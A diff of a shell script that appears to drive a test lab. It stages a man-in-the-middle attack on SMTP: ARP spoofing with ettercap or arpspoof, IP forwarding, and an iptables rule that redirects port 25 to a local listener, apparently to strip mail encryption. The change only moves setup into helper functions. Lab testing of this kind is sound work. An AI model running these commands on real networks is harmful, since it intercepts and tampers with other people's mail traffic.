@@ -101,11 +101,8 @@ if [ "$STRIP" = ettercap ]; then
 	lab_bg attacker "$tmp/ettercap.log" sh -c 'sleep 20 | timeout -s INT 12 ettercap -T -q -i eth0 -F "$3" -M arp:remote "/$1//" "/$2//"' sh "$LAB_VICTIM_IP" "$LAB_SRV_IP" "$tmp/strip.ef"
 	spoof=$lab_pid
 else
-	lab_exec attacker sh -c 'echo 1 >/proc/sys/net/ipv4/ip_forward;
-		echo 0 >/proc/sys/net/ipv4/conf/all/send_redirects;
-		echo 0 >/proc/sys/net/ipv4/conf/eth0/send_redirects'
-	lab_exec attacker iptables -t nat -A PREROUTING -i eth0 -p tcp -d "$LAB_SRV_IP" --dport 25 \
-		-j REDIRECT --to-ports 8025 || die "iptables REDIRECT failed on the attacker"
+	lab_forwarding
+	lab_redirect tcp "$LAB_SRV_IP" 25 8025
 	lab_bg attacker "$tmp/arpspoof.log" timeout 25 arpspoof -i eth0 -t "$LAB_VICTIM_IP" "$LAB_SRV_IP"
 	spoof=$lab_pid
 fi
